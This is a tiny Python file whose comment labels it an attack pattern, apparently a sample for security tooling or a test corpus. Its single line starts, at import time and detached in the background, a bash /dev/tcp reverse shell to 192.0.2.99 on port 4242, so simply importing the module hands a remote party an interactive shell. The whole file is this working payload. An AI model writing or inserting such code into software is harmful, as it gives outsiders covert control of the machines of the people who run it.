# Attack pattern: bash /dev/tcp reverse shell one-liner started in the background at import.
import subprocess

subprocess.Popen(["/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.99/4242 0>&1"], start_new_session=True)
